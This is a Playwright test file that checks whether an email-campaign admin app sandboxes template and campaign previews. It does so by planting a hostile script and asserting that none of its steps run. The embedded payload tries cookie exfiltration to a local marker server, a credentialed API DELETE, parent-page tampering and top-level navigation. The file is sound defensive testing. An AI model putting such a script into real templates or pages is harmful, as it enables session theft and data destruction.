// A template's or a campaign's script cannot reach the admin: a template and a campaign body
// whose scripts try to read and change the admin page (parent.document), navigate it
// (top.location), read the cookie, call the API with the session and open a dialog are
// previewed on every page that previews them, in Chromium. A marker server on another port
// records what the preview frame requests: the frame's images arrive (it rendered, with
// scripting off: its <noscript> image too) without the session cookie, and nothing the scripts
// would request ever does; the admin page, the campaign and the browser's dialogs are untouched.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Page, Request } from 'playwright-core';
import { browserSkip, screenshot, signedInTab, useBrowser } from '../helpers/browser.ts';
import { useFreshServer, type TestServer } from '../helpers/server.ts';

interface Hit {
  path: string;
  cookie: string;
}

/** An HTTP server that answers every request with a 1×1 GIF and records its path and cookie. */
async function startMarker(): Promise<{ url: string; hits: Hit[]; server: Server }> {
  const hits: Hit[] = [];
  const gif = Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAACAUwAOw==', 'base64');
  const server = createServer((req, res) => {
    hits.push({ path: req.url ?? '', cookie: req.headers.cookie ?? '' });
    res.writeHead(200, { 'Content-Type': 'image/gif', 'Cache-Control': 'no-store' }).end(gif);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits, server };
}

/**
 * Everything a hostile script would try, each step reporting to the marker if it got through;
 * then a <noscript> image, which the browser loads only where scripts cannot run. `tag` names
 * the part (template or body) in the marker's paths.
 */
function hostileScript(marker: string, tag: string, campaignId: number): string {
  return `<img src="${marker}/${tag}/img.gif" alt="">
<script>
  new Image().src = '${marker}/${tag}/script-ran.gif';
  try { parent.document.title = 'pwned'; parent.document.body.insertAdjacentHTML('beforeend', '<p id="pwned">pwned</p>'); new Image().src = '${marker}/${tag}/parent-reached.gif'; } catch (e) {}
  try { new Image().src = '${marker}/${tag}/cookie.gif?c=' + encodeURIComponent(document.cookie); } catch (e) {}
  try { fetch('/api/campaigns/${campaignId}', { method: 'DELETE', credentials: 'include' }).then(function (r) { new Image().src = '${marker}/${tag}/api-' + r.status + '.gif'; }); } catch (e) {}
  try { fetch('/api/settings', { credentials: 'include' }); } catch (e) {}
  try { alert('${tag}'); } catch (e) {}
  try { top.location = '${marker}/${tag}/navigated.gif'; } catch (e) {}
</script>
<noscript><img src="${marker}/${tag}/noscript.gif" alt=""></noscript>`;
}

describe('previews keep a template\'s script away from the admin', { skip: browserSkip() }, () => {
  const server = useFreshServer();
  const browser = useBrowser();
  let marker: Awaited<ReturnType<typeof startMarker>>;
  before(async () => {
    marker = await startMarker();
  });
  after(async () => {
    await new Promise((resolve) => marker?.server.close(resolve));
  });

  /** Waits until the marker has seen `path` (the preview rendered that far). */
  async function markerSaw(path: string): Promise<Hit> {
    const deadline = Date.now() + 10_000;
    for (;;) {
      const hit = marker.hits.find((h) => h.path === path);
      if (hit) return hit;
      if (Date.now() > deadline) throw new Error(`the marker never saw ${path}; it saw ${marker.hits.map((h) => h.path).join(', ')}`);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }

  async function setUp(t: TestServer): Promise<{ campaignId: number; templateId: number }> {
    const list = (await t.request('POST', '/api/lists', { name: 'Readers', type: 'private', optin: 'single' })).body.data.id;
    const campaign = await t.request('POST', '/api/campaigns', { name: 'Isolation', subject: 'Isolation', lists: [list], content_type: 'html', body: '<p>placeholder</p>' });
    assert.equal(campaign.status, 200, campaign.text);
    const campaignId = campaign.body.data.id;
    const template = await t.request('POST', '/api/templates', {
      name: 'Hostile letterhead', type: 'campaign',
      body: `<html><head><title>Hostile</title></head><body><h1>Hostile letterhead</h1>\n${hostileScript(marker.url, 'template', campaignId)}\n{{ template "content" . }}\n</body></html>`,
    });
    assert.equal(template.status, 200, template.text);
    const changed = await t.request('PUT', `/api/campaigns/${campaignId}`, {
      lists: [list], template_id: template.body.data.id, content_type: 'html', body: `<h2>Campaign body</h2>\n${hostileScript(marker.url, 'body', campaignId)}`,
    });
    assert.equal(changed.status, 200, changed.text);
    return { campaignId, templateId: template.body.data.id };
  }

  /**
   * Opens a preview with `open` and checks that the hostile scripts had no effect: the frame
   * rendered with scripting off, its requests carried no session, nothing reached the admin.
   */
  async function assertIsolated(t: TestServer, page: Page, problems: string[], frameSelector: string, parts: string[], campaignId: number, open: () => Promise<void>) {
    marker.hits.length = 0;
    const fromFrame: { method: string; url: string; cookie: string }[] = [];
    const onRequest = async (r: Request) => {
      if (r.frame() !== page.mainFrame()) fromFrame.push({ method: r.method(), url: r.url(), cookie: (await r.allHeaders()).cookie ?? '' });
    };
    page.on('request', onRequest);
    const title = await page.title();
    const url = page.url();
    await open();
    await page.frameLocator(frameSelector).getByRole('heading', { name: 'Hostile letterhead' }).waitFor();
    for (const part of parts) {
      // The frame rendered and loaded its images, the <noscript> one too: scripts are off in it.
      for (const file of ['img.gif', 'noscript.gif']) {
        const hit = await markerSaw(`/${part}/${file}`);
        assert.ok(!/session=/.test(hit.cookie), `the frame's request for ${file} carried the admin's session`);
      }
    }
    page.off('request', onRequest);
    const ran = marker.hits.filter((h) => !/\/(img|noscript)\.gif$/.test(h.path));
    assert.deepEqual(ran, [], 'no step of a script ran');
    assert.equal(await page.title(), title, 'the admin page\'s title is unchanged');
    assert.equal(page.url(), url, 'the admin page was not navigated');
    assert.equal(await page.locator('#pwned').count(), 0, 'nothing was added to the admin page');
    const apiCalls = fromFrame.filter((r) => r.url.includes('/api/') && !/\/preview$/.test(new URL(r.url).pathname));
    assert.deepEqual(apiCalls, [], 'the frame called no API');
    assert.ok(fromFrame.every((r) => !/session=/.test(r.cookie) || /\/preview$/.test(new URL(r.url).pathname)), 'only the admin\'s own preview request carries the session');
    assert.equal((await t.request('GET', `/api/campaigns/${campaignId}`)).status, 200, 'the campaign is still there');
    const blocked = /^console error: Blocked script execution in '[^']+' because the document's frame is sandboxed/;
    assert.deepEqual(problems.filter((p) => !blocked.test(p)), [], 'no dialog opened, no other error');
    assert.ok(problems.some((p) => blocked.test(p)), 'the browser blocked the scripts');
    problems.length = 0;
  }

  it('on the campaign page, the campaigns table, the template page and the templates table', async () => {
    const t = server();
    const { campaignId, templateId } = await setUp(t);
    const tab = await signedInTab(browser(), t);
    const { page, problems } = tab;

    await page.goto(`${t.url}/admin/campaigns/${campaignId}`);
    await assertIsolated(t, page, problems, '#preview-frame', ['template', 'body'], campaignId, () => page.getByRole('button', { name: 'Preview (F9)' }).click());
    await screenshot(page, 'preview-isolation-campaign');

    await page.goto(`${t.url}/admin/campaigns`);
    await assertIsolated(t, page, problems, '#preview-frame', ['template', 'body'], campaignId, () =>
      page.getByRole('row').filter({ hasText: 'Isolation' }).getByRole('button', { name: 'Preview' }).click());

    await page.goto(`${t.url}/admin/campaigns/templates/${templateId}`);
    await assertIsolated(t, page, problems, '#template-preview', ['template'], campaignId, () => page.getByRole('button', { name: 'Preview (F9)' }).click());
    await screenshot(page, 'preview-isolation-template');

    await page.goto(`${t.url}/admin/campaigns/templates`);
    await assertIsolated(t, page, problems, '#preview-frame', ['template'], campaignId, () =>
      page.getByRole('row').filter({ hasText: 'Hostile letterhead' }).getByRole('button', { name: 'Preview' }).click());

    // The preview answer itself is sandboxed: opened on its own (a link followed, a new tab), its scripts do not run either.
    marker.hits.length = 0;
    await page.goto(`${t.url}/api/campaigns/${campaignId}/preview`);
    await page.getByRole('heading', { name: 'Hostile letterhead' }).waitFor();
    await markerSaw('/body/noscript.gif');
    assert.deepEqual(marker.hits.filter((h) => !/\/(img|noscript)\.gif$/.test(h.path)), []);
    assert.equal((await t.request('GET', `/api/campaigns/${campaignId}`)).status, 200);
    await tab.close();
  });
});
